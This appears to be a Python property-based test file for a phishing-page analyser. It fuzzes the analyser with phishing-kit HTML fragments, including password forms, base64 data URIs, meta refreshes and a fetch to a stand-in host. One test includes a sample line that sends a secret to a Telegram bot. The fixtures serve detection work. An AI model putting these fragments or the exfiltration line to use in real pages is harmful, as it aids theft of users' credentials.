from hypothesis import given
from hypothesis import strategies as st

from pages.made import brands, form, page, saved
from unhook.pages.saved.model import Saved
from unhook.pages.source.look import look

_PIECES = st.sampled_from(
    [
        "<form action='",
        "<input type=password name='",
        "<script>",
        "</script>",
        "location.hash",
        "atob('",
        "')",
        "<iframe srcdoc='",
        "<title>Microsoft",
        "fetch('https://b.test/'",
        "+",
        "<img src=",
        "<meta http-equiv=refresh",
        " content='0;url=",
        "<base href=",
        "\x00",
        "�",
        "<svg>",
        "<h1>",
        "data:text/html;base64,PGI+",
        "//[",
        "mailto:",
    ]
)


@given(
    st.lists(_PIECES, max_size=30), st.sampled_from([None, "https://a.test/", "nonsense", "https://[::1]/"])
)
def test_any_page_is_survived(pieces: list[str], url: str | None) -> None:
    look(Saved("".join(pieces).encode("utf-8", "surrogatepass"), url=url))


@given(st.binary(max_size=300))
def test_any_bytes_are_survived(data: bytes) -> None:
    assert look(Saved(data)).verdict in ("inconclusive", "suspicious")


def test_the_report_holds_what_was_seen() -> None:
    code = "fetch('https://api.telegram.org/bot0:x/sendMessage',{body:secret})"
    report = look(saved(page("Provider A", form("/p"), code), "https://a.test/"), brands())
    assert report.login
    assert not report.challenged
    assert report.brand is not None
    assert report.brand.brand.name == "Provider A"
    assert report.title == "Provider A"
    assert [sign.name for sign in report.signs] == ["bot"]
    assert {sent.channel for sent in report.sent} == {"form", "fetch"}
